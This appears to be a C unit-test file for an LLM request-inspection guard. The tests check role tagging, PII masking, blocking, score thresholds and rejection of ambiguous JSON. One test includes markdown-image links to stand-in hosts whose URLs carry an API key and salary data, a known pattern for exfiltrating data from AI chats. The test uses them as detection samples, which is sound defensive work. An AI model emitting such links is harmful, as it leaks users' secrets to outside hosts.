/*
 * Whole requests: who said each text, what is changed and what is not, and what
 * is refused.
 */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "llmg_mask.h"
#include "inspect_body.h"


static const llmg_rule_t  first_rule = {
    .name = "test.first", .type = "FIRST", .confidence = 90, .max = 16,
    .literals = llmg_list("abc"), .pattern = "abcdef"
};


static const llmg_rule_t  second_rule = {
    .name = "test.second", .type = "SECOND", .confidence = 90, .max = 16,
    .inside = 1,
    .literals = llmg_list("def"), .pattern = "defghi"
};


static void
every_string_of_a_request_has_its_role(void **state)
{
    static const char  body[] =
        "{\"model\":\"some-model\",\"messages\":["
        "{\"content\":\"behind\",\"role\":\"system\"},"
        "{\"role\":\"user\",\"content\":[{\"type\":\"text\",\"text\":\"part\"},"
        "\"bare\",{\"text\":\"more\",\"extra\":{\"deep\":\"below\"}}]},"
        "{\"role\":\"assistant\",\"content\":{\"text\":\"object\"},"
        "\"refusal\":\"never\",\"reasoning\":\"since\",\"tool_calls\":[{\"id\":"
        "\"call_1\",\"type\":\"function\",\"function\":{\"name\":\"look\","
        "\"arguments\":\"{\\\"a\\\":1}\"}}]},"
        "{\"role\":\"tool\",\"tool_call_id\":\"call_2\",\"content\":\"found\"},"
        "{\"role\":\"developer\",\"content\":\"guide\",\"name\":\"who\"},"
        "{\"role\":\"ASSISTANT\",\"content\":\"upper\"},"
        "{\"role\":\"wizard\",\"content\":\"spell\"},"
        "{\"content\":\"nobody\"},"
        "{\"function_call\":{\"arguments\":\"old\"},\"role\":\"assistant\"}],"
        "\"metadata\":{\"trace\":\"value\"},"
        "\"tools\":[{\"function\":{\"name\":\"t1\",\"description\":\"does\"}}],"
        "\"x_new\":[\"list\",{\"z_new\":1}],\"stream\":true}";

    static const expected_t  expected[] = {
        { "some-model",      LLMG_ROLE_UNKNOWN,   LLMG_KIND_OTHER },
        { "behind",          LLMG_ROLE_SYSTEM,    LLMG_KIND_CONTENT },
        { "part",            LLMG_ROLE_USER,      LLMG_KIND_CONTENT },
        { "bare",            LLMG_ROLE_USER,      LLMG_KIND_CONTENT },
        { "more",            LLMG_ROLE_USER,      LLMG_KIND_CONTENT },
        { "extra",           LLMG_ROLE_USER,      LLMG_KIND_NAME },
        { "deep",            LLMG_ROLE_USER,      LLMG_KIND_NAME },
        { "below",           LLMG_ROLE_USER,      LLMG_KIND_CONTENT },
        { "object",          LLMG_ROLE_ASSISTANT, LLMG_KIND_CONTENT },
        { "never",           LLMG_ROLE_ASSISTANT, LLMG_KIND_REFUSAL },
        { "since",           LLMG_ROLE_ASSISTANT, LLMG_KIND_REASONING },
        { "call_1",          LLMG_ROLE_ASSISTANT, LLMG_KIND_NAME },
        { "look",            LLMG_ROLE_ASSISTANT, LLMG_KIND_NAME },
        { "{\\\"a\\\":1}",   LLMG_ROLE_ASSISTANT, LLMG_KIND_TOOL_ARGS },
        { "call_2",          LLMG_ROLE_TOOL,      LLMG_KIND_NAME },
        { "found",           LLMG_ROLE_TOOL,      LLMG_KIND_CONTENT },
        { "guide",           LLMG_ROLE_SYSTEM,    LLMG_KIND_CONTENT },
        { "who",             LLMG_ROLE_SYSTEM,    LLMG_KIND_NAME },
        { "upper",           LLMG_ROLE_ASSISTANT, LLMG_KIND_CONTENT },
        { "spell",           LLMG_ROLE_UNKNOWN,   LLMG_KIND_CONTENT },
        { "nobody",          LLMG_ROLE_UNKNOWN,   LLMG_KIND_CONTENT },
        { "old",             LLMG_ROLE_ASSISTANT, LLMG_KIND_TOOL_ARGS },
        { "trace",           LLMG_ROLE_UNKNOWN,   LLMG_KIND_NAME },
        { "value",           LLMG_ROLE_UNKNOWN,   LLMG_KIND_OTHER },
        { "t1",              LLMG_ROLE_TOOL,      LLMG_KIND_TOOL_DEF },
        { "does",            LLMG_ROLE_TOOL,      LLMG_KIND_TOOL_DEF },
        { "x_new",           LLMG_ROLE_UNKNOWN,   LLMG_KIND_NAME },
        { "list",            LLMG_ROLE_UNKNOWN,   LLMG_KIND_OTHER },
        { "z_new",           LLMG_ROLE_UNKNOWN,   LLMG_KIND_NAME },
        { NULL, 0, 0 }
    };

    (void) state;

    assert_int_equal(request(policy("no usage", "inherit default; usage off;"),
                             body), LLMG_OK);

    texts_are(body, expected);

    assert_true(fixture.result.stream);
    assert_true(llmg_str_eqz(fixture.result.model, "some-model"));
    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_ALLOW);
    assert_int_equal(fixture.result.findings.n, 0);
    assert_ptr_equal(fixture.result.body.data, body);
    assert_int_equal(fixture.result.body.len, sizeof(body) - 1);

    assert_int_equal(request(policy("default", NULL), "{\"stream\":false}"),
                     LLMG_OK);
    assert_false(fixture.result.stream);

    assert_int_equal(request(policy("default", NULL), "{}"), LLMG_OK);
    assert_int_equal(fixture.result.ntexts, 0);
}


/* what a server would read as "tool" is "tool" here, too */

static void
a_role_is_read_without_its_escapes(void **state)
{
    static const char  body[] =
        "{\"messages\":[{\"role\":\"\\u0074ool\",\"content\":\"escaped\"},"
        "{\"r\\u006fle\":\"system\",\"content\":\"member\"}]}";

    static const expected_t  expected[] = {
        { "member",  LLMG_ROLE_SYSTEM, LLMG_KIND_CONTENT },
        { "escaped", LLMG_ROLE_TOOL,   LLMG_KIND_CONTENT },
        { NULL, 0, 0 }
    };

    (void) state;

    assert_int_equal(request(policy("default", NULL), body), LLMG_OK);
    texts_are(body, expected);
}


static void
masking_changes_the_found_bytes_only(void **state)
{
    llmg_policy_t  *p;

    (void) state;

    p = policy("default", NULL);

    assert_int_equal(request(p,
        " { \"model\" :\t\"m\", \"seed\": " BIG ",\r\n \"n\":1.0,\"t\":1e0,"
        "\"messages\":[{\"role\":\"user\",\"content\":"
        "\"\\u0041\\/\\ud83d\\ude00 jane\\u0040example.com\\ud83d\\ude00\\n"
        "\\u002c b\\u006fb@example.org\\\\\"}] , \"seed2\":-0.0 } "), LLMG_OK);

    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_MASK);
    assert_int_equal(fixture.result.decision.masked, 2);
    assert_true(fixture.result.edited);

    body_is(
        " { \"model\" :\t\"m\", \"seed\": " BIG ",\r\n \"n\":1.0,\"t\":1e0,"
        "\"messages\":[{\"role\":\"user\",\"content\":"
        "\"\\u0041\\/\\ud83d\\ude00 [EMAIL_ADDRESS]\\ud83d\\ude00\\n"
        "\\u002c [EMAIL_ADDRESS]\\\\\"}] , \"seed2\":-0.0 } ");

    /* a whole text, two next to each other, the last bytes of one */

    assert_int_equal(request(p, "{\"a\":\"jane@example.com\"}"), LLMG_OK);
    body_is("{\"a\":\"[EMAIL_ADDRESS]\"}");

    assert_int_equal(request(p, "{\"a\":[\"jane@example.com\",\"\\\"al@ex.org"
                                "\"],\"b\":\"\xC3\xA9 x@ex.org \xC3\xA9\"}"),
                     LLMG_OK);
    body_is("{\"a\":[\"[EMAIL_ADDRESS]\",\"\\\"[EMAIL_ADDRESS]\"],"
            "\"b\":\"\xC3\xA9 [EMAIL_ADDRESS] \xC3\xA9\"}");

    /* a member name is a text, too */

    assert_int_equal(request(p, "{\"jane@example.com\":1}"), LLMG_OK);
    body_is("{\"[EMAIL_ADDRESS]\":1}");
}


static void
masking_keeps_the_style_of_its_line(void **state)
{
    llmg_policy_t  *p;

    (void) state;

    p = policy("partial", "request pii.email mask style=partial;");

    assert_int_equal(request(p, "{\"a\":\"to jan\\u0065@example.com now\"}"),
                     LLMG_OK);
    body_is("{\"a\":\"to ***********e.com now\"}");
}


/* two rules that overlap are one edit, named by the first */

static void
overlapping_findings_are_one_edit(void **state)
{
    char                err[256];
    llmg_policy_t      *p;
    const llmg_rule_t  *rules[2];

    (void) state;

    rules[0] = &second_rule;
    rules[1] = &first_rule;

    p = llmg_policies_add(policies, llmg_str("overlap"));
    assert_non_null(p);
    looks_for(p, LLMG_REQUEST, rules, 2);
    assert_int_equal(llmg_policy_parse(policies, p,
                                       llmg_str("request * mask;"), err,
                                       sizeof(err)), LLMG_OK);
    (void) policy("overlap", NULL);

    assert_int_equal(request(p, "{\"a\":\"-\\u0061bcd\\u0065f\\u0067hi\\n\"}"),
                     LLMG_OK);
    assert_int_equal(fixture.result.findings.n, 2);
    body_is("{\"a\":\"-[FIRST]\\n\"}");

    assert_int_equal(request(p, "{\"a\":\"abcdef defghi abcdefghi.\"}"),
                     LLMG_OK);
    body_is("{\"a\":\"[FIRST] [SECOND] [FIRST].\"}");
}


static void
a_block_names_its_rule_and_keeps_the_body(void **state)
{
    static const char  body[] = "{\"messages\":[{\"role\":\"user\",\"content\":"
                                "\"jane@example.com CANARY-x\"}]}";

    (void) state;

    assert_int_equal(request(policy("blocks", "request pii.email block;"),
                             body), LLMG_OK);
    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_BLOCK);
    assert_string_equal(fixture.result.decision.rule->name, "pii.email");
    assert_int_equal(fixture.result.decision.rules, 1);
    assert_false(fixture.result.edited);
    assert_ptr_equal(fixture.result.body.data, body);

    /* the response has no line */

    assert_int_equal(response(policy("blocks", NULL), body), LLMG_OK);
    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_ALLOW);
}


static void
scores_add_up_to_the_threshold(void **state)
{
    llmg_policy_t  *p;

    (void) state;

    p = policy("sums", "request pii.email report score=30;"
                       "threshold request 60 block;");

    assert_int_equal(request(p, "{\"a\":\"jane@example.com\"}"), LLMG_OK);
    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_REPORT);
    assert_int_equal(fixture.result.decision.score, 30);

    assert_int_equal(request(p, "{\"a\":\"jane@example.com\","
                                "\"b\":[\"al@example.com\"]}"), LLMG_OK);
    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_BLOCK);
    assert_int_equal(fixture.result.decision.score, 60);
    assert_null(fixture.result.decision.rule);
}


static void
lines_look_at_their_roles_only(void **state)
{
    llmg_policy_t  *p;

    (void) state;

    p = word_policy("roles", "request * block roles=tool;"
                             "request * mask roles=user,assistant;");

    assert_int_equal(request(p, "{\"messages\":[{\"role\":\"system\","
                                "\"content\":\"CANARY-a\"}]}"), LLMG_OK);
    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_ALLOW);
    assert_int_equal(fixture.result.findings.n, 1);

    assert_int_equal(request(p, "{\"messages\":[{\"content\":\"CANARY-a\","
                                "\"role\":\"user\"},{\"role\":\"system\","
                                "\"content\":\"CANARY-a\"},{\"content\":"
                                "\"CANARY-b\"}]}"), LLMG_OK);
    body_is("{\"messages\":[{\"content\":\"[WORD]\",\"role\":\"user\"},"
            "{\"role\":\"system\",\"content\":\"CANARY-a\"},{\"content\":"
            "\"[WORD]\"}]}");

    assert_int_equal(request(p, "{\"messages\":[{\"content\":[{\"text\":"
                                "\"CANARY-a\"}],\"role\":\"tool\"}]}"),
                     LLMG_OK);
    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_BLOCK);
}


static void
shadow_changes_nothing(void **state)
{
    llmg_inspect_t  in;

    static const char  body[] = "{\"a\":\"jane@example.com\"}";

    (void) state;

    setup(&in, policy("default", NULL));
    in.shadow = 1;

    assert_int_equal(llmg_inspect_request(&in, llmg_str(body),
                                          &fixture.result), LLMG_OK);
    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_MASK);
    assert_int_equal(fixture.result.findings.n, 1);
    assert_false(fixture.result.edited);
    assert_ptr_equal(fixture.result.body.data, body);
    assert_int_equal(fixture.result.body.len, sizeof(body) - 1);
}


static void
refuses(const char *body, llmg_status_t rc, const char *error, size_t at)
{
    llmg_status_t  got;

    got = request(policy("default", NULL), body);

    if (got != rc || fixture.result.error == NULL
        || strcmp(fixture.result.error, error) != 0
        || fixture.result.error_at != at)
    {
        fail_msg("%s: %d \"%s\" at %zu", body, got,
                 fixture.result.error ? fixture.result.error : "(none)",
                 fixture.result.error_at);
    }

    assert_false(fixture.result.edited);
}


static void
refuses_what_could_be_read_in_two_ways(void **state)
{
    char  deep[256];

    (void) state;

    refuses("{\"a\":1,\"a\":2}", LLMG_INVALID, "duplicate member", 10);
    refuses("{\"a\":1,\"\\u0061\":2}", LLMG_INVALID, "duplicate member",
            15);
    refuses("[]", LLMG_INVALID, "the document is not an object", 0);
    refuses("\"x\"", LLMG_INVALID, "the document is not an object", 0);
    refuses("1", LLMG_INVALID, "the document is not an object", 0);
    refuses("null", LLMG_INVALID, "the document is not an object", 0);
    refuses("true", LLMG_INVALID, "the document is not an object", 0);

    memset(deep, '[', sizeof(deep));
    memcpy(deep, "{\"a\":", 5);
    deep[LLMG_JSON_DEPTH + 6] = '\0';

    assert_int_equal(request(policy("default", NULL), deep), LLMG_LIMIT);
    assert_string_equal(fixture.result.error,
                        "nesting too deep (llm_guard_depth_max)");

    assert_int_equal(request(policy("default", NULL), "{\"a\":\"\xFF\"}"),
                     LLMG_INVALID);
    assert_non_null(fixture.result.error);
    assert_int_equal(fixture.result.error_at, 6);

    assert_int_equal(request(policy("default", NULL), "{\"a\":"),
                     LLMG_INVALID);
    assert_non_null(fixture.result.error);
    assert_int_equal(request(policy("default", NULL), ""), LLMG_INVALID);
    assert_non_null(fixture.result.error);
}


static void
generic_takes_any_document(void **state)
{
    llmg_inspect_t  in;

    static const char *const  bodies[][2] = {
        { "[\"jane@example.com\",1]", "[\"[EMAIL_ADDRESS]\",1]" },
        { "\"jane@example.com\"", "\"[EMAIL_ADDRESS]\"" },
        { "{\"role\":{\"x\":\"jane@example.com\"}}",
          "{\"role\":{\"x\":\"[EMAIL_ADDRESS]\"}}" },
        { "7", "7" },
        { NULL, NULL }
    };

    size_t  i;

    (void) state;

    for (i = 0; bodies[i][0] != NULL; i++) {
        setup(&in, policy("default", NULL));
        in.dialect = &llmg_dialect_generic;

        assert_int_equal(llmg_inspect_request(&in, llmg_str(bodies[i][0]),
                                              &fixture.result), LLMG_OK);
        body_is(bodies[i][1]);

        assert_int_equal(llmg_inspect_response(&in, llmg_str(bodies[i][0]),
                                               &fixture.result), LLMG_OK);
        body_is(bodies[i][1]);
    }
}


/* a client that writes a card without quotes has still written it */

static void
long_numbers_are_texts(void **state)
{
    llmg_policy_t  *p;

    (void) state;

    p = policy("default", NULL);

#define NUMBERS(a, b, c)                                                      \
    "{\"k\":" a ",\"messages\":[{\"role\":\"user\",\"content\":" b          \
    "},{\"x\":[1," c ",2]}]}"

#define CARD   "4242424242424242"
#define LABEL  "\"[CREDIT_CARD]\""

    assert_int_equal(request(p, NUMBERS("1", CARD, "2")), LLMG_OK);
    body_is(NUMBERS("1", LABEL, "2"));
    assert_int_equal(fixture.result.texts[1].kind, LLMG_KIND_CONTENT);
    assert_int_equal(fixture.result.texts[1].role, LLMG_ROLE_USER);

    assert_int_equal(request(p, NUMBERS(CARD, "\"a@b.com \"", "-" CARD)),
                     LLMG_OK);
    body_is(NUMBERS(LABEL, "\"[EMAIL_ADDRESS] \"", LABEL));

    assert_int_equal(request(p, NUMBERS(CARD " ", CARD "e0", "\n" CARD)),
                     LLMG_OK);
    body_is(NUMBERS(LABEL " ", LABEL, "\n" LABEL));

    assert_int_equal(request(p, NUMBERS(CARD ".0", "-" CARD ".5E+2",
                                        CARD "E-1")),
                     LLMG_OK);
    body_is(NUMBERS(LABEL, LABEL, LABEL));

    /* the style shows the last digits, and is a string as well */

    assert_int_equal(request(policy("part", "request pii.* mask style=partial;"
                                    ), NUMBERS("1", CARD, "2")), LLMG_OK);
    body_is(NUMBERS("1", "\"************4242\"", "2"));

    assert_int_equal(response(p, "{\"choices\":[{\"message\":{\"content\":"
                              CARD "}}],\"created\":" CARD "}"), LLMG_OK);
    body_is("{\"choices\":[{\"message\":{\"content\":" LABEL "}}],"
            "\"created\":" LABEL "}");

    assert_int_equal(request(policy("strict", NULL), NUMBERS("1", "2", CARD)),
                     LLMG_OK);
    assert_int_equal(fixture.result.findings.n, 1);

    /* other numbers keep every byte, and fractions are no texts */

    assert_int_equal(request(p, NUMBERS("1700000000000", "4242424242424241",
                                        "0.4242424242424242")), LLMG_OK);
    assert_false(fixture.result.edited);
    assert_int_equal(fixture.result.ntexts, 5);

#undef LABEL
#undef CARD
#undef NUMBERS
}


/* what people ask about is told of and never adds up to a block */

static void
strict_lets_people_ask(void **state)
{
#define ASK(text)                                                             \
    "{\"messages\":[{\"role\":\"user\",\"content\":\"" text "\"}]}"

    size_t  i;

    /* of sentences the model has an opinion of its own */

    static const char  words[] = "inherit strict;"
                                 "request injection.model allow;";

    static const char *const  asked[] = {
        ASK("why do 8.8.8.8, 9.9.9.9 and 1.1.1.1 answer, or "
            "2001:4860:4860::8888 and 8.8.4.4?"),
        ASK("![x](https://a.example/p.png?q=the%20api%20key%20is%2012345) "
            "![](http://203.0.113.9/conversation+summary:+salary+90k.gif)"),
        ASK("Traceback (most recent call last):\\n"
            "  File \\\"a.py\\\", line 1, in <module>\\n    f()\\n"
            "ValueError: bad\\nTraceback (most recent call last):\\n"
            "  File \\\"b.py\\\", line 2, in f\\n    g()\\nKeyError: 1"),
        NULL
    };

    (void) state;

    for (i = 0; asked[i] != NULL; i++) {
        assert_int_equal(request(policy("ask", words), asked[i]), LLMG_OK);
        assert_true(fixture.result.findings.n > 0);
        assert_int_equal(fixture.result.decision.action, LLMG_ACTION_REPORT);
        assert_int_equal(fixture.result.decision.score, 0);
    }

    assert_int_equal(request(policy("ask", words),
                             ASK("8.8.8.8 is of jane@example.com")), LLMG_OK);
    assert_int_equal(fixture.result.decision.action, LLMG_ACTION_BLOCK);

#undef ASK
}


int
main(void)
{
    const struct CMUnitTest  tests[] = {
        cmocka_unit_test(every_string_of_a_request_has_its_role),
        cmocka_unit_test(a_role_is_read_without_its_escapes),
        cmocka_unit_test(masking_changes_the_found_bytes_only),
        cmocka_unit_test(masking_keeps_the_style_of_its_line),
        cmocka_unit_test(overlapping_findings_are_one_edit),
        cmocka_unit_test(a_block_names_its_rule_and_keeps_the_body),
        cmocka_unit_test(scores_add_up_to_the_threshold),
        cmocka_unit_test(lines_look_at_their_roles_only),
        cmocka_unit_test(shadow_changes_nothing),
        cmocka_unit_test(refuses_what_could_be_read_in_two_ways),
        cmocka_unit_test(generic_takes_any_document),
        cmocka_unit_test(long_numbers_are_texts),
        cmocka_unit_test(strict_lets_people_ask),
    };

    cmocka_set_message_output(CM_OUTPUT_TAP);

    return cmocka_run_group_tests(tests, inspecting_begin, destroy);
}
